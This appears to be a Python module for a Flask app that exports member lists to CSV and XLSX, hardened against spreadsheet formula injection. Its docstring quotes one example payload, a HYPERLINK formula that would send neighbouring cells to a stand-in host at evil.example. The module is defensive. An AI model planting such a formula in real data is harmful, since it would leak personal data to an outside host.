"""Spreadsheets for organisers, written so that opening one runs nothing: every export
of every widget goes through here.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and some
treat a leading tab or carriage return the same way), so a member named
`=HYPERLINK("http://evil.example/?leak="&A2,"Click")` would become a live link that
sends the neighbouring cells away. CSV has no types: such a text gets a leading `'`,
which spreadsheets show as "this is text" and hide. XLSX has types: every text is
written as a string cell (openpyxl would make a formula of it), headers included;
numbers and times stay numbers and times. CSV starts with a UTF-8 BOM, so Excel reads
Chinese right."""
import csv
import io
import re
from datetime import date, datetime
from decimal import Decimal
from urllib.parse import quote

from flask import Response, stream_with_context

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_BOM = "\ufeff"
CSV_MIMETYPE = "text/csv; charset=utf-8"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TIME_FORMAT = "%Y-%m-%d %H:%M"
XLSX_TIME_FORMAT = "yyyy-mm-dd hh:mm"
# Characters a worksheet's name may not hold (Excel's rule), and its length.
SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]+")
SHEET_TITLE_MAX = 31


def _is_number(value):
    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)


def guarded_text(value):
    """Text as a spreadsheet shows it, never run as a formula: `'` before a risky start."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_cell(value):
    """One CSV cell: numbers as numbers, times as local "YYYY-MM-DD HH:MM" (pass them
    already in the group's zone), everything else as guarded text."""
    if value is None:
        return ""
    if _is_number(value):
        return str(value)
    if isinstance(value, datetime):
        return value.strftime(TIME_FORMAT)
    if isinstance(value, date):
        return value.isoformat()
    return guarded_text(value)


def csv_line(values):
    """One CSV line (with its line break), for exports that stream row by row."""
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell(value) for value in values])
    return out.getvalue()


def csv_text(header, rows):
    """A whole CSV file as text, BOM first."""
    return CSV_BOM + csv_line(header) + "".join(csv_line(row) for row in rows)


def _xlsx_value(cell, value, illegal_characters):
    if _is_number(value):
        if isinstance(value, Decimal):
            value = int(value) if value == value.to_integral_value() else float(value)
        cell.value = value
    elif isinstance(value, (datetime, date)):
        cell.value = value.replace(tzinfo=None) if isinstance(value, datetime) else value
        cell.number_format = XLSX_TIME_FORMAT if isinstance(value, datetime) else "yyyy-mm-dd"
    else:
        cell.value = illegal_characters.sub("", str(value))
        # openpyxl makes a formula of any string starting with "=": keep it text.
        cell.data_type = "s"


def xlsx_bytes(header, rows, title):
    """An XLSX workbook of one sheet: the header row frozen, text as text cells."""
    # openpyxl is imported when a workbook is asked for, not by every worker at start:
    # it takes about 6 MB of a worker's memory (bench/README.md, peak RSS).
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.utils import get_column_letter

    book = Workbook()
    sheet = book.active
    sheet.title = SHEET_TITLE_FORBIDDEN.sub("", ILLEGAL_CHARACTERS_RE.sub("", title)).strip(
        "' ")[:SHEET_TITLE_MAX] or "export"
    for row_number, row in enumerate([header, *rows], start=1):
        for column, value in enumerate(row, start=1):
            if value is None or value == "":
                continue
            _xlsx_value(sheet.cell(row=row_number, column=column), value,
                        ILLEGAL_CHARACTERS_RE)
    for column in range(1, len(header) + 1):
        sheet.column_dimensions[get_column_letter(column)].width = 16
    sheet.freeze_panes = "A2"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def attachment_disposition(title, fallback, extension):
    """Content-Disposition of a download: `fallback` (ASCII) for old clients, the title
    (what people recognise, Chinese included) for the rest."""
    name = "".join(c for c in title if c.isprintable() and c not in '\\/:*?"<>|')[:60].strip()
    return (f'attachment; filename="{fallback}.{extension}"; '
            f"filename*=UTF-8''{quote(name or fallback)}.{extension}")


def csv_download(lines, title, fallback):
    """A streamed CSV download of `lines` (BOM first, as csv_line writes them) named
    after `title`, never kept by a shared cache: it lists people."""
    response = Response(stream_with_context(lines), mimetype=CSV_MIMETYPE)
    response.headers["Content-Disposition"] = attachment_disposition(title, fallback, "csv")
    response.headers["Cache-Control"] = "private, no-store"
    return response
